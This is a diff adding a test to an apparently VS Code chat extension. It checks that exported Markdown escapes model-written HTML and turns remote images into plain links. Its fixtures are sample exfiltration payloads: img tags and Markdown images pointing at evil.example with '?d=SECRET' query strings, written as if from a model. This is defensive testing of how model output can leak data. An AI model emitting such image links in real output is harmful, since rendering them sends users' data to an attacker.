@@ -48,4 +48,31 @@ describe('export a conversation', function () {
     fs.rmSync(path.join(root.fsPath, 'exported.md'));
     fs.rmSync(js.fsPath);
   });
+
+  it('writes Markdown a preview shows without loading anything: HTML and remote images from the model are text and links', async () => {
+    await cmd('newChat');
+    await config().update('thinkingSummaries', true, vscode.ConfigurationTarget.Global);
+    try {
+      emu.queueScenario({
+        name: 'text',
+        thought: 'Planning.\n</details>\n<img src="https://evil.example/thought.png">',
+        text: 'Hi <img src=https://evil.example/a.png?d=SECRET> and ![x](https://evil.example/b.png?d=SECRET)\n\n```ts\nconst v: Array<number> = [];\n<img src=https://evil.example/unclosed.png>',
+      });
+      await cmd('internal.send', 'Show me <b>HTML</b>');
+    } finally {
+      await config().update('thinkingSummaries', undefined, vscode.ConfigurationTarget.Global);
+    }
+    const turn = await cmd<{ parts: { kind: string; text?: string }[] }>('internal.lastModelTurn');
+    assert.match(turn!.parts.find((p) => p.kind === 'thought')?.text ?? '', /<\/details>/, 'the thought reached the conversation as the model wrote it');
+    const md = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'exported-hostile.md');
+    await cmd('internal.exportConversation', 'markdown', md.toString());
+    const text = fs.readFileSync(md.fsPath, 'utf8');
+    fs.rmSync(md.fsPath);
+    assert.doesNotMatch(text.replace(/^```ts\n[^]*?^```$/m, ''), /<(img|details|b)\b/i, 'no HTML outside code');
+    assert.ok(text.includes('## You\n\nShow me &lt;b>HTML&lt;/b>'), text);
+    assert.ok(text.includes('Hi &lt;img src=https://evil.example/a.png?d=SECRET> and \\![x](https://evil.example/b.png?d=SECRET)'), 'the remote image is a plain link');
+    assert.match(text, /> \*\*Thoughts\*\*\n>\s*\n> Planning\.\n> &lt;\/details>\n> &lt;img src="https:\/\/evil\.example\/thought\.png">/, 'the thought is one quote');
+    // The open fence ends with the answer: its code keeps its <, and the rest of the file is not code.
+    assert.ok(text.includes('```ts\nconst v: Array<number> = [];\n<img src=https://evil.example/unclosed.png>\n```\n'), text);
+  });
 });
